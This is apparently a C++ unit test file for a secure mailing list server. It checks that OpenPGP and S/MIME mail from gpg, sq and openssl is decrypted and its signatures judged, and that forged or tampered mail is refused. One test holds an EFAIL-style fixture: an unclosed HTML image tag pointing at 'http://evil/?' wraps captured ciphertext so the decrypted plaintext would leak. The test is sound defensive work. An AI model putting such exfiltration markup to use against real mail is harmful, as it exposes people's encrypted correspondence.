// OpenPGP mail to a secure list, made by programs that are not ours.
#include "core/crypto/Encoding.h"
#include "core/mail/Text.h"
#include "core/seal/SmimeSealer.h"
#include "core/seal/SmimeSigner.h"
#include "listd/receive/Reception.h"
#include "tests/unit/core/pgp/PgpFixture.h"
#include "tests/unit/listd/ListdFixture.h"

using namespace postern;
using namespace postern::test;

namespace {

constexpr auto Canary = "The figures are larger.";
const std::string Text =
    "Content-Type: text/plain; charset=utf-8; hp=\"cipher\"\r\nFrom: Ann <ann@example.org>\r\n"
    "Subject: Secure: b\xc3\xbc"
    "dget\r\n\r\nThe figures are larger.\r\n";

std::string withCrlf(const std::string& text) {
  std::string out;
  for (const char c : text)
    if (c == '\n')
      out += "\r\n";
    else if (c != '\r')
      out += c;
  return out;
}

struct Scene {
  TempFolder folder;
  config::SiteConfig config = siteConfig(folder.path());
  SystemClock clock;
  SiteContext context{config, clock};
  List board = makeList(context, "board@lists.example", true);
  pgp::SecretKey listKey = openPgpKey(context, board);
  GpgHome home;
  std::string ann = home.makeKey("Ann <ann@example.org>", "cv25519");
  std::string bob = home.makeKey("Bob <bob@example.org>", "nistp256");
  std::string other = home.makeKey("Second Ann <ann@example.org>", "cv25519");  // the site never saw it

  Scene() {
    board = context.site.read([&](SiteTables& tables) { return *tables.lists.find(board.id); });
    home.store("list.asc", listKey.publicKey().armored());
    home.gpg("--import " + quoted(home / "list.asc"));
    confirm(ann, "ann@example.org");
    confirm(bob, "bob@example.org");
  }
  void confirm(const std::string& fingerprint, const std::string& address) {
    auto key = importKey(home.exported(fingerprint), address, clock.now(), nullptr);
    BOOST_REQUIRE(key.has_value());
    BOOST_REQUIRE((key->facts.kind == listd::KeyKind::OpenPgp && key->facts.state == KeyState::Confirmed));
    context.site.write([&](SiteTables& tables) { tables.keys.add(*key); });
  }
  std::string run(const std::string& options, std::string_view plain) const {
    home.store("plain", plain);
    const auto done = home.gpg("--trust-model always --armor " + options + " --output " + quoted(home / "out.asc") +
                               " " + quoted(home / "plain"));
    BOOST_TEST_REQUIRE(done.status == 0, done.output);
    return withCrlf(home.read("out.asc"));
  }
  std::string armored(std::string_view plain, const std::string& options) const {
    return run("--encrypt -r board@lists.example " + options, plain);
  }
  std::string signedPart(const std::string& entity, const std::string& who) const {
    return "Content-Type: multipart/signed; micalg=pgp-sha512; protocol=\"application/pgp-signature\"; boundary=s\r\n"
           "\r\n--s\r\n" +
           entity + "\r\n--s\r\nContent-Type: application/pgp-signature\r\n\r\n" +
           run("--digest-algo SHA512 --detach-sign -u " + who, entity) + "\r\n--s--\r\n";
  }
  std::string clear(const std::string& text, const std::string& who) const {
    home.store("plain", text);
    const auto done = home.gpg("--trust-model always --output " + quoted(home / "out.asc") + " -u " + who +
                               " --clear-sign " + quoted(home / "plain"));
    BOOST_TEST_REQUIRE(done.status == 0, done.output);
    return withCrlf(home.read("out.asc"));
  }
  static std::string mime(const std::string& armoredMessage) {
    return "MIME-Version: 1.0\r\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; "
           "boundary=e\r\n\r\n--e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--e\r\n"
           "Content-Type: application/octet-stream\r\n\r\n" +
           armoredMessage + "\r\n--e--\r\n";
  }
  std::optional<Reception> receive(const std::string& entity, const std::string& from = "ann@example.org") {
    return receivePost(context, post(entity, from), board);
  }
  static mail::Message post(const std::string& entity, const std::string& from = "ann@example.org") {
    return mail::Message::parse("From: Ann <" + from +
                                ">\r\nTo: board@lists.example\r\nSubject: ...\r\n"
                                "Date: Sun, 01 Mar 2026 12:00:00 +0000\r\nMessage-ID: <1@example.org>\r\n" +
                                entity)
        .value();
  }
  std::string standing(const std::string& entity, const std::string& from = "ann@example.org") {
    const auto reception = receive(entity, from);
    return reception ? standingWord(reception->check.standing) : "refused";
  }
  std::string by(const std::string& who) const { return "--sign -u " + who; }
};

}  // namespace

BOOST_AUTO_TEST_SUITE(listd_receive_PgpReception)

BOOST_AUTO_TEST_CASE(mail_that_gpg_encrypts_to_the_list_and_signs_is_opened) {
  Scene scene;
  const auto inPackets = scene.mime(scene.armored(Text, scene.by(scene.ann)));
  const auto inParts = scene.mime(scene.armored(scene.signedPart(Text, scene.ann), ""));
  for (const auto& mail : {inPackets, inParts}) {
    const auto reception = scene.receive(mail);
    BOOST_REQUIRE(reception);
    BOOST_TEST(reception->message.bytes().find(Canary) != std::string::npos);
    BOOST_TEST(reception->message.subject() ==
               "Secure: b\xc3\xbc"
               "dget");
    BOOST_TEST(reception->message.header().count("Content-Type") == 1u);
    BOOST_TEST(reception->message.header().count("MIME-Version") == 1u);
    const auto& check = reception->check;
    BOOST_TEST((check.encryption == CryptoForm::OpenPgp && check.signature == CryptoForm::OpenPgp));
    BOOST_TEST(standingWord(check.standing) == "good");
    BOOST_TEST(check.signer == "ann@example.org");
    BOOST_TEST(check.fingerprint == mail::lowerAscii(scene.ann));
  }
}

BOOST_AUTO_TEST_CASE(a_program_that_encrypts_its_own_line_ends_is_understood) {
  Scene scene;
  std::string text = Text;
  std::erase(text, '\r');
  const auto reception = scene.receive(scene.mime(scene.armored(text, scene.by(scene.ann))));
  BOOST_REQUIRE(reception);
  BOOST_TEST(reception->message.body() == std::string(Canary) + "\r\n");
}

BOOST_AUTO_TEST_CASE(an_inline_message_becomes_text_and_never_a_header) {
  Scene scene;
  const std::string text = "Content-Type: text/html\r\n\r\n<b>The figures are larger.</b>\r\n";
  const auto inlined = "Content-Type: text/plain\r\n\r\n" + scene.armored(text, scene.by(scene.ann));
  const auto reception = scene.receive(inlined);
  BOOST_REQUIRE(reception);
  BOOST_TEST(standingWord(reception->check.standing) == "good");
  BOOST_TEST(reception->message.header().value("Content-Type").value() == "text/plain; charset=utf-8");
  BOOST_TEST(reception->message.subject() == "...");
  BOOST_TEST(scene.standing("Content-Type: text/plain\r\n\r\nRead this:\r\n" +
                            scene.armored(text, scene.by(scene.ann))) == "none");  // not all of it: not opened
}

BOOST_AUTO_TEST_CASE(encrypted_mail_counts_only_with_its_authors_signature_and_all_else_is_one_refusal) {
  Scene scene;
  const auto good = scene.mime(scene.armored(Text, scene.by(scene.ann)));
  auto damaged = good;
  const auto at = damaged.find("\r\n\r\n", damaged.find("BEGIN PGP MESSAGE")) + 400;
  damaged[at] = damaged[at] == 'A' ? 'B' : 'A';
  auto inner = scene.signedPart(Text, scene.ann);
  inner.replace(inner.find("larger"), 6, "biggest");
  const std::string stolen = Text.substr(0, Text.find("ann@")) + "bob@" + Text.substr(Text.find("ann@") + 4);
  for (const auto& mail : {scene.mime(scene.armored(Text, "")), scene.mime(scene.armored(Text, scene.by(scene.bob))),
                           scene.mime(scene.armored(Text, scene.by(scene.other))),
                           scene.mime(scene.armored(Text, scene.by(scene.ann) + " -u " + scene.bob)),
                           scene.mime(scene.armored(stolen, scene.by(scene.ann))), scene.mime(scene.armored(inner, "")),
                           scene.mime(scene.run("--encrypt -r " + scene.bob + " " + scene.by(scene.ann), Text)),
                           scene.mime(scene.armored(Text, scene.by(scene.ann) + " --rfc2440 --disable-mdc")), damaged})
    BOOST_TEST(scene.standing(mail) == "refused");
  BOOST_TEST(scene.standing(good, "bob@example.org") == "refused");
  BOOST_TEST(scene.standing(good) == "good");
}

BOOST_AUTO_TEST_CASE(ciphertext_taken_from_elsewhere_is_never_opened) {
  Scene scene;
  const auto captured = scene.mime(scene.armored(Text, scene.by(scene.ann)));
  for (const auto& around : {"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n"
                             "<img src=\"http://evil/?\r\n--b\r\n" +
                                 captured + "\r\n--b--\r\n",
                             "Content-Type: message/rfc822\r\n\r\n" + captured}) {
    const auto reception = scene.receive(around);
    BOOST_REQUIRE(reception);
    BOOST_TEST(reception->message.bytes().find(Canary) == std::string::npos);
    BOOST_TEST(reception->check.isPlain());
  }
}

BOOST_AUTO_TEST_CASE(a_signature_on_open_mail_is_judged_and_the_mail_stays_as_it_is) {
  Scene scene;
  const auto entity = scene.signedPart(Text, scene.ann);
  auto changed = entity;
  changed.replace(changed.find("larger"), 6, "biggest");
  BOOST_TEST(scene.standing(entity) == "good");
  BOOST_TEST(scene.standing(changed) == "bad");
  BOOST_TEST(scene.standing(entity, "bob@example.org") == "unknown-signer");
  BOOST_TEST(scene.standing(scene.signedPart(Text, scene.other)) == "unknown-signer");
  BOOST_TEST(scene.standing("Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n" + entity +
                            "\r\n--m\r\nContent-Type: text/plain\r\n\r\nmore\r\n--m--\r\n") == "none");
  BOOST_TEST(scene.receive(entity)->message.bytes() == Scene::post(entity).bytes());
  const auto unknown = scene.receive(scene.signedPart(Text, scene.other))->check;
  BOOST_TEST(
      senderCheckText(unknown, "ann@example.org", "board@lists.example").find("\r\nSignature: by an unknown key 0x") !=
      std::string::npos);
}

BOOST_AUTO_TEST_CASE(clear_signed_text_is_judged_and_goes_on_as_it_came) {
  Scene scene;
  const auto text = scene.clear("The figures are larger.\n- by a third\n", scene.ann);
  const std::string head = "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n";
  const auto coded = head + "Content-Transfer-Encoding: base64\r\n\r\n" + crypto::base64Lines(text);
  auto quotedPrintable = text;
  quotedPrintable.replace(quotedPrintable.find("larger"), 6, "=6Carg=\r\ner");
  // The armor's own "=" signs.
  for (auto at = quotedPrintable.find("BEGIN PGP SIGNATURE"); (at = quotedPrintable.find('=', at)) != std::string::npos;
       at += 3)
    quotedPrintable.replace(at, 1, "=3D");
  quotedPrintable = head + "Content-Transfer-Encoding: quoted-printable\r\n\r\n" + quotedPrintable;
  for (const auto& mail : std::vector<std::string>{head + "\r\n" + text, "\r\n" + text, coded, quotedPrintable}) {
    const auto reception = scene.receive(mail);
    BOOST_REQUIRE(reception);
    BOOST_TEST(standingWord(reception->check.standing) == "good");
    BOOST_TEST((reception->check.signature == CryptoForm::OpenPgp && reception->check.encryption == CryptoForm::None));
    BOOST_TEST(reception->check.fingerprint == mail::lowerAscii(scene.ann));
    BOOST_TEST(reception->message.bytes() == Scene::post(mail).bytes());
  }
  auto changed = text;
  changed.replace(changed.find("larger"), 6, "biggest");
  BOOST_TEST(scene.standing(head + "\r\n" + changed) == "bad");
  BOOST_TEST(scene.standing(head + "\r\n" + text + "PS: pay Bob\r\n") == "bad");
  BOOST_TEST(scene.standing(head + "\r\n" + scene.clear("x\n", scene.other)) == "unknown-signer");
  // Not signed are the charset, and the other parts: neither may borrow the author's word.
  BOOST_TEST(scene.standing("Content-Type: text/plain; charset=utf-7\r\n\r\n" + text) == "none");
  BOOST_TEST(scene.standing("Content-Type: text/html\r\n\r\n" + text) == "none");
  BOOST_TEST(scene.standing("Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n\r\n" + text + "\r\n--m--\r\n") ==
             "none");
}

// Another member's signature is not the author's, and the readers are told whose it is; who is no member of this list
// is not named.
BOOST_AUTO_TEST_CASE(a_signature_by_another_member_is_told_as_such) {
  Scene scene;
  addMember(scene.context, scene.board, "ann@example.org");
  const auto byBob = [&] {
    return std::vector{scene.signedPart(Text, scene.bob), "\r\n" + scene.clear("The figures.\n", scene.bob)};
  };
  for (const auto& mail : byBob()) BOOST_TEST(scene.standing(mail) == "unknown-signer");
  addMember(scene.context, scene.board, "bob@example.org");
  for (const auto& mail : byBob()) {
    const auto check = scene.receive(mail).value().check;
    BOOST_TEST(standingWord(check.standing) == "other-signer");
    BOOST_TEST(check.signer == "bob@example.org");
    BOOST_TEST(check.fingerprint == mail::lowerAscii(scene.bob));
    const auto told = senderCheckText(check, "ann@example.org", "board@lists.example");
    BOOST_TEST(told.find("by somebody else: key of bob@example.org") != std::string::npos, told);
  }
  auto changed = scene.signedPart(Text, scene.bob);
  changed.replace(changed.find("larger"), 6, "biggest");
  BOOST_TEST(scene.standing(changed) == "unknown-signer");  // not Bob's word either, and nothing is said of him
  BOOST_TEST(scene.receive(changed).value().check.signer.starts_with("0x"));
}

BOOST_AUTO_TEST_CASE(a_revoked_or_proposed_key_proves_nothing) {
  Scene scene;
  const auto sealed = scene.mime(scene.armored(Text, scene.by(scene.ann)));
  for (const auto state : {KeyState::Revoked, KeyState::Proposed}) {
    scene.context.site.write([&](SiteTables& tables) { tables.keys.setState(mail::lowerAscii(scene.ann), state); });
    BOOST_TEST(scene.standing(scene.signedPart(Text, scene.ann)) == "unknown-signer");
    BOOST_TEST(scene.standing(sealed) == "refused");
  }
}

BOOST_AUTO_TEST_CASE(one_form_within_the_other_is_opened_too) {
  Scene scene;
  const auto smime = crypto::SigningIdentity::create("ann@example.org", scene.clock.now(), std::chrono::days(10));
  auto certificate = importKey(smime.certificate().der(), "ann@example.org", scene.clock.now(), nullptr);
  scene.context.site.write([&](SiteTables& tables) { tables.keys.add(*certificate); });
  const auto body = seal::SharedBody::encrypt("MIME-Version: 1.0\r\n" + scene.signedPart(Text, scene.ann));
  const auto to = crypto::RecipientKey::of(signingIdentity(scene.context, scene.board).certificate());
  BOOST_TEST(scene.standing(seal::SmimeSealer().head(body, to) + body.tail()) == "good");
  const auto signedBySmime = seal::SmimeSigner(smime).sign(Text, scene.clock.now());
  BOOST_TEST(scene.standing(scene.mime(scene.armored(signedBySmime, ""))) == "good");
}

BOOST_AUTO_TEST_CASE(sq_can_write_to_the_list_as_well) {
  Scene scene;
  scene.home.store("ann.key", scene.home.exportedSecret(scene.ann));
  scene.home.store("plain", Text);
  for (const std::string compression : {"none", "zlib", "pad"}) {
    const auto done =
        postern::test::run("sq encrypt --compression " + compression + " --recipient-cert " +
                           quoted(scene.home / "list.asc") + " --signer-key " + quoted(scene.home / "ann.key") + " " +
                           quoted(scene.home / "plain") + " > " + quoted(scene.home / "sq.asc"));
    BOOST_TEST_REQUIRE(done.status == 0, done.output);
    BOOST_TEST(scene.standing(scene.mime(withCrlf(scene.home.read("sq.asc")))) == "good", compression);
  }
}

BOOST_AUTO_TEST_CASE(openssl_can_write_to_the_list_by_smime) {
  Scene scene;
  const auto at = [&](const char* name) { return quoted(scene.home / name); };
  auto made = run("openssl req -x509 -newkey rsa:2048 -nodes -keyout " + at("ann.pem") + " -out " + at("ann.crt") +
                  " -days 10 -subj /CN=Ann -addext subjectAltName=email:ann@example.org -addext "
                  "extendedKeyUsage=emailProtection -addext keyUsage=digitalSignature,keyEncipherment");
  BOOST_TEST_REQUIRE(made.status == 0, made.output);
  auto key = importKey(scene.home.read("ann.crt"), "ann@example.org", scene.clock.now(), nullptr);
  BOOST_REQUIRE(key.has_value());
  scene.context.site.write([&](SiteTables& tables) { tables.keys.add(*key); });
  scene.home.store("list.der", scene.board.certificate);
  scene.home.store("plain", Text);
  made = run("openssl x509 -inform DER -in " + at("list.der") + " -out " + at("list.crt") +
             " && openssl cms -sign -md sha256 -signer " + at("ann.crt") + " -inkey " + at("ann.pem") + " -in " +
             at("plain") + " -crlfeol -out " + at("signed") + " && openssl cms -encrypt -aes256 -crlfeol -in " +
             at("signed") + " -out " + at("sealed") + " " + at("list.crt"));
  BOOST_TEST_REQUIRE(made.status == 0, made.output);
  const auto reception = scene.receive(withCrlf(scene.home.read("sealed")));
  BOOST_REQUIRE(reception);
  BOOST_TEST((reception->check.encryption == CryptoForm::Smime));
  BOOST_TEST(standingWord(reception->check.standing) == "good");
}

BOOST_AUTO_TEST_SUITE_END()
